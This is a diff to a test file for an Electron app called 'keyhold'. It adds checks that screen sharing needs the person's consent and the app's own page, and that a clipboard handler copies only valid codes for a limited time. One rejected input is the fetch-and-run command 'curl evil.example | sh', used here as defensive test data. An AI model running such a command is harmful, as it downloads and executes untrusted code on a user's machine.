@@ -336,12 +336,58 @@ describe('a page', () => {
     expect(check('app://keyhold/', { ...save, isDirectory: true })).toBe(false);
   });
 
-  test('gets no device, no screen, no pairing, no download, no spell checker', async () => {
+  test('sees the screen only after the person has said so, and only as our own page with a click', async () => {
+    await run();
+    const own = {
+      frame: { parent: null },
+      securityOrigin: 'app://keyhold/',
+      videoRequested: true,
+      audioRequested: false,
+      userGesture: true,
+    };
+    const ask = async (request: object, answer: number): Promise<unknown> => {
+      electron.dialog.answers = [answer];
+      return new Promise((resolve) => pages().invoke('displayMedia', request, resolve));
+    };
+    expect(await ask(own, 0)).toEqual({ video: { id: 'screen:0', name: 'Screen' } });
+    expect(await ask(own, 1)).toEqual({});
+    const before = electron.dialog.asked.length;
+    for (const wrong of [
+      { frame: null },
+      { frame: { parent: {} } },
+      { securityOrigin: 'https://evil.example/' },
+      { userGesture: false },
+      { audioRequested: true },
+    ]) {
+      expect(await ask({ ...own, ...wrong }, 0)).toEqual({});
+    }
+    expect(electron.dialog.asked.length).toBe(before);
+  });
+
+  test('copies a code for a while, and nothing else', async () => {
+    await run();
+    const contents = onlyWindow().webContents;
+    const event = { sender: contents, senderFrame: contents.mainFrame };
+    const hold = (code: unknown, seconds: unknown = 0.02) =>
+      electron.ipcMain.handlers.get('keyhold:clipboard')?.(event, code, seconds);
+    const held = hold('123456');
+    expect(electron.clipboard.text).toBe('123456');
+    expect(await held).toEqual({ result: 'cleared' });
+    expect(electron.clipboard.text).toBe('');
+    const changed = hold('12345678');
+    electron.clipboard.text = 'something of the person’s own';
+    expect(await changed).toEqual({ result: 'changed' });
+    expect(electron.clipboard.text).toBe('something of the person’s own');
+    for (const wrong of ['curl evil.example | sh', '12345', 123456, null]) {
+      expect(await hold(wrong)).toMatchObject({ error: { code: 'InvalidInput' } });
+    }
+    expect(await hold('123456', 3600)).toMatchObject({ error: { code: 'InvalidInput' } });
+    expect(electron.clipboard.text).toBe('something of the person’s own');
+  });
+
+  test('gets no device, no pairing, no download, no spell checker', async () => {
     await run();
     expect(pages().invoke('device', {})).toBe(false);
-    const media = vi.fn();
-    pages().invoke('displayMedia', {}, media);
-    expect(media).toHaveBeenCalledWith(null);
     const pairing = vi.fn();
     pages().invoke('bluetooth', {}, pairing);
     expect(pairing).toHaveBeenCalledWith({ confirmed: false });
